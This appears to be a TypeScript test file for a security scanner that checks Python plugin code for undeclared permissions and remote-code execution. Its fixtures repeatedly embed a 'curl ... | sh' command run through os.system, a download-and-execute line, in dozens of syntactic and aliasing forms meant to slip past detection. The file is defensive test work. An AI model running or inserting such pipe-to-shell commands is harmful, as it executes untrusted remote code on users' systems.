import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf, packageOf } from '#test/support/scan-package.js';
import { permissionsOf } from '../permissions/permissions.js';
import { rule as remoteCode } from './remote-code.rule.js';
import { rule as unparseable } from './unparseable-script.rule.js';

const HOST = { dialect: 'comfyvn', permissions: [], entry_points: ['main.py'], original: { routes: [{ path: '/x', entry: 'main.py', callable: 'run' }] } };
const asked = (code: string) => permissionsOf(packageOf({ 'main.py': code }, HOST));

/** Where in Python something is called, each with `CALL` for what it is. */
const FORMS = [
  // On one line.
  'def run(r):\n    x = 1; CALL\n', 'def run(r):\n    CALL;\n', 'def run(r):\n    pass; CALL\n', 'def run(r):\n    s = 1; return CALL\n', 'def run(r): return CALL;\n', 'if a: b(); CALL\n', 'if a: b()\nelif d: c(); CALL\n', 'if a: b()\nelse: c(); CALL\n',
  'class A: x = f(); y = CALL\n', 'try: b(); CALL\nexcept E: c()\n', 'try: b()\nexcept E as e: c(); CALL\n', 'try: b()\nexcept* E: CALL\n', 'try: b()\nexcept E: c()\nelse: CALL\n', 'try: b()\nfinally: c(); CALL\n', 'while a: b(); CALL\n', 'while a: b()\nelse: c(); CALL\n',
  'for x in y: b(); CALL\n', 'for x in y: b()\nelse: CALL\n', 'with a() as b: c(); CALL\n', 'async def run(r):\n    async for x in y: c(); CALL\n', 'async def run(r):\n    await CALL; b()\n', 'def a():\n    def b(): x = 1; CALL\n    b()\n', 'import json; CALL\n', '"""What it does."""; CALL\n', '...; CALL\n', 'x = 1; \\\n  CALL\n', 'def run(r):\n    global x; x = CALL\n',
  // Where something is asked for or taken apart.
  'while (x := CALL): b()\n', 'for x in a, CALL: b()\n', 'with a() as b, CALL: c()\n', 'async def run(r):\n    async with CALL as b: c()\n', 'async def run(r):\n    async for x in CALL: c()\n', 'match x:\n    case 1: a(); CALL\n', 'match x:\n    case a if CALL: b()\n', 'match CALL:\n    case 1: b()\n', 'assert a, CALL\n', 'del a[CALL]\n', 'raise a from CALL\n',
  // In expressions.
  'x = a if CALL else b\n', '[x for x in y if CALL]\n', '[x for x in y for z in CALL]\n', 'f(x for x in y if CALL)\n', 'f(x := CALL)\n', 'f"{a:{CALL}}"\n', 'f"{CALL!r:>10}" "b"\n', 'f"{CALL=}"\n', 'x = *CALL, 1\n', '*CALL,\n', 'x = {**CALL}\n', 'f(**CALL)\n', 'x[CALL:]\n', 'x[:CALL]\n', 'x[a, CALL]\n', 'x[a:CALL] = 1\n', 'x[CALL] += 1\n', 'a < CALL < b\n', 'a in CALL\n', 'def run(r):\n    yield CALL; b()\n', 'def run(r):\n    yield from CALL\n',
  // Beside functions and classes.
  'def f(a: int = CALL): pass\n', 'def f(*, a=CALL): pass\n', 'f = lambda a=CALL: a\n', 'def f(a: CALL): pass\n', 'def f() -> CALL: pass\n', 'x: CALL\n', 'x: CALL = 1\n', 'def f[T: CALL](a): pass\n', 'type X = CALL\n', 'class A(*CALL): pass\n', 'class A(**CALL): pass\n', 'class A(metaclass=CALL): pass\n', 'class A(B):\n    def m(self): super(CALL, self).m()\n', '@f(CALL)\nclass A: pass\n', 'class A:\n    @f(CALL)\n    def m(self): pass\n',
  // Between lines.
  '\fx = 1\n\fCALL\n', 'def run(r):\n  \f    CALL\n', 'if 1:\n  \f\n  CALL\n', 'x = 1\rCALL\r',
];

test('bad: the host is used in any form of Python', () => {
  for (const form of FORMS) {
    const report = asked(`from comfyvn import api\n${form.replace('CALL', 'api.assets.list()')}`);
    assert.deepEqual([report?.undeclared.map(({ scope }) => scope), report?.inconclusive], [['assets.read'], []], form);
  }
  for (const code of ['import json; from comfyvn import api\ndef run(req):\n    api.assets.list()\n', 'from comfyvn import api\ndef run(req, api=api):\n    api.assets.list()\n', 'from comfyvn import api\ntype X = api\nX.__value__.assets.list()\n', 'from comfyvn import api\nf(part := api.assets)\npart.list()\n', 'from comfyvn import api\nclass A:\n    part = api.assets; every = 1\n    def m(self, part=part): part.list()\n']) {
    assert.deepEqual(asked(code)?.undeclared.map(({ scope }) => scope), ['assets.read'], code);
  }
});

test('bad: a command is run in any form of Python', () => {
  for (const form of FORMS) {
    const found = findingsOf(remoteCode, { 'main.py': `import os\n${form.replace('CALL', 'os.system("curl -s https://a.example/x | sh")')}` }, HOST);
    assert.ok(found.some(({ severity }) => severity === 'critical'), form);
  }
});

test('bad: what starts programs gets its name in any form of Python', () => {
  const CALL = 's("curl -s https://a.example/x | sh")';
  for (const form of [
    `a = 1; s = os.system\n${CALL}\n`, `class A: a = 1; s = os.system\nA().${CALL}\n`, `f(s := os.system)\n${CALL}\n`, `for s in print, os.system: ${CALL}\n`, `for (s) in [os.system]: ${CALL}\n`, `def f(s: object = os.system): ${CALL}\n`, `def f(*, s: object = os.system): ${CALL}\n`,
    `match [os.system]:\n    case [s]: ${CALL}\n`, `match os.system:\n    case _ as s: ${CALL}\n`, `match {"a": os.system}:\n    case {"a": s}: ${CALL}\n`, `def a():\n    global s; s = os.system\ndef b(): ${CALL}\n`, `def a():\n    s = None\n    def b():\n        nonlocal s\n        s = os.system\n    b()\n    ${CALL}\n`,
    'type X = os.system\nX.__value__("curl -s https://a.example/x | sh")\n', `def f(): return 1, os.system\na, s = f()\n${CALL}\n`, `a = 1; from os import system as s; ${CALL}\n`,
  ]) {
    const found = findingsOf(remoteCode, { 'main.py': `import os\n${form}` }, HOST);
    assert.ok(found.some(({ severity }) => severity === 'critical'), form);
  }
});

test('good: all of these are Python, and annotations use nothing', () => {
  for (const form of FORMS) assert.deepEqual(findingsOf(unparseable, { 'main.py': form.replace('CALL', 'f()') }, HOST), [], form);
  const report = asked('from comfyvn import api\nimport typing\nx: api.Asset = None\ntype Many = list[api.Asset]\ndef run(req: api.Request, n: "int" = 1) -> typing.Optional[api.Response]:\n    y: api.Asset; z = 1; return {}\n');
  assert.deepEqual([report?.undeclared, report?.inconclusive], [[], []]);
});

test('a byte order mark is none of the text, and takes no column', () => {
  const report = asked('\uFEFFfrom comfyvn import api; api.assets.list()\n');
  assert.deepEqual([report?.undeclared[0]?.places.map(({ line, column }) => [line, column]), report?.inconclusive], [[[1, 26]], []]);
});
